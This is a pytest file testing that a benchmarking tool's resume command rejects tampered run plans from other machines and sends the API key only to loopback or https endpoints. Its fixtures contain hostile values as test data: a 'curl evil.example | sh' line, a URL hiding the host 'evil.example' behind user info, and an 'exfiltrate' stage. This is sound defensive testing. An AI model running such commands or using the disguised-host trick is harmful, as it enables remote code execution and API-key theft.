"""`bench --resume FOLDER` on a run folder from elsewhere: its run.json is checked as a typed plan is, and what it
will run is shown before it runs; an endpoint it names gets the API key only on this machine or over https."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from conftest import sizebench


class Endpoint(BaseHTTPRequestHandler):
    """A tiny OpenAI-compatible server of one model, `other`; keeps each request's Authorization."""

    protocol_version = "HTTP/1.1"
    keys: list = []

    def log_message(self, format, *args) -> None:
        pass

    def _reply(self, body: bytes, kind: str) -> None:
        Endpoint.keys.append(self.headers.get("Authorization"))
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._reply(json.dumps({"data": [{"id": "other"}]}).encode(), "application/json")


@pytest.fixture
def endpoint():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Endpoint)
    server.daemon_threads = True
    Endpoint.keys = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()


def foreign_run(folder: Path, base_url: str, edit=lambda plan: plan) -> Path:
    """A run folder as another machine (or person) could hand it over: run.json and no records."""
    from sizebench.planning.plan import RunPlan
    from sizebench.planning.registry import resolve

    folder.mkdir(parents=True)
    prompts = folder.parent / "prompts.txt"
    prompts.write_text("What is the capital of France?\n")
    plan = RunPlan(models=tuple(resolve(f"openai:{base_url}#m")), stages=("prompts",), prompts_path=str(prompts))
    meta = {
        "run_id": folder.name,
        "command": "sizebench bench",
        "plan": edit(plan.to_dict()),
        "environment": {},
        "finished": None,
        "status": "running",
    }
    (folder / "run.json").write_text(json.dumps(meta))
    (folder / "records.jsonl").write_text("")
    return folder


def _hidden_host(plan: dict) -> dict:
    plan["models"][0]["location"] = "http://127.0.0.1:8000@evil.example/v1#m"
    return plan


def _stage(plan: dict) -> dict:
    return {**plan, "stages": ["prompts", "exfiltrate"]}


def _unknown_field(plan: dict) -> dict:
    return {**plan, "run_first": "curl evil.example | sh"}


def _missing_task_folder(plan: dict) -> dict:
    return {**plan, "stages": ["tasks"], "eval": {**plan["eval"], "task_path": "/nonexistent/tasks"}}


def _open_server(plan: dict) -> dict:
    return {**plan, "serve": {**plan["serve"], "server_args": "--host 0.0.0.0"}}


@pytest.mark.long
@pytest.mark.parametrize(
    "edit, words",
    [
        (_hidden_host, "has user info before '@'"),
        (_stage, "invalid stage 'exfiltrate'"),
        (_unknown_field, "holds no plan this sizebench reads"),
        (_missing_task_folder, "task folder '/nonexistent/tasks' does not exist"),
        (_open_server, "--server-args may not set --host"),
    ],
    ids=["hidden-host", "stage", "unknown-field", "task-folder", "open-server"],
)
def test_a_foreign_plan_that_a_typed_command_could_not_make_is_refused_in_one_line(tmp_path, edit, words):
    run = foreign_run(tmp_path / "elsewhere" / "run", "http://127.0.0.1:9/v1", edit)
    done = sizebench("bench", "--resume", str(run), "--results", str(tmp_path / "results"), timeout=120)
    assert done.returncode == 2 and words in done.stderr and "Traceback" not in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


@pytest.mark.long
def test_a_foreign_run_shows_what_it_will_run_and_the_key_reaches_only_this_machine(tmp_path, endpoint):
    run = foreign_run(tmp_path / "elsewhere" / "run", endpoint)
    done = sizebench(
        "bench",
        "--resume",
        str(run),
        "--results",
        str(tmp_path / "results"),
        timeout=300,
        env={"SIZEBENCH_OPENAI_API_KEY": "sk-local"},
    )
    assert done.returncode == 0, done.stderr
    assert f"its run.json decides what runs:\n  openai:m: openai from {endpoint}#m\n  stages: prompts" in done.stderr
    assert "does not serve 'm'" in done.stderr  # unavailable here: the plan ran as far as the endpoint allows
    assert Endpoint.keys and set(Endpoint.keys) == {"Bearer sk-local"}  # loopback: the key goes
